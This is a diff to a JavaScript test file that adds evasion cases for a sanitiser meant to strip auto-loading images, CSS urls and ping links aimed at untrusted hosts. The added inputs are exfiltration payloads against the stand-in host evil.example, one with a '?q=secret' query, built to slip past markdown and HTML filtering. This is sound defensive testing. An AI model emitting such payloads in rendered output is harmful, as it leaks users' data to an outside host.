@@ -23,11 +23,23 @@ test('what loads by itself from an address that nobody trusted gave is taken out
     '<img src="&#104;ttps:&#47;/evil.example/1">',
     '<div style="background: url(https://evil.example/1)">',
     `![${'x'.repeat(20_000)}](https://evil.example/1)`,
+    '> ![x](\n> https://evil.example/1)',
+    '> ![r]\n>\n> [r]:\n> https://evil.example/?q=secret',
+    `![x](${' '.repeat(200)}https://evil.example/1)`,
+    '<img src="/\t/evil.example/1">',
+    '<img src="https:evil.example/1">',
+    '<img src=\\/evil.example/1>',
+    '<img src="h\nttps://evil.example/1">',
+    '<img srcset="a.png 1x, https:evil.example/1 2x">',
+    `<img ${'x '.repeat(5000)} src="https://evil.example/1">`,
+    '<a href="#" style="background:url(https://evil.example/1)">there</a>',
+    '<a ping="https://evil.example/1" href="#">there</a>',
   ]) {
     const made = unloaded(text, trusts)
     assert.doesNotMatch(made.replaceAll(/&lt;[\s\S]*/g, ''), /evil\.example|q=secret|[<!]img/i, text.slice(0, 80))
   }
   assert.equal(unloaded('See ![x](https://evil.example/?q=secret) there.', trusts), 'See ![x](#removed) there.')
+  assert.match(unloaded(`![x](${' '.repeat(9000)}https://evil.example/1)`, trusts), /^!\[x\]\( #removed +https/, 'two words in its brackets: no image any more')
 })
 
 test('everything else stays to the letter', () => {
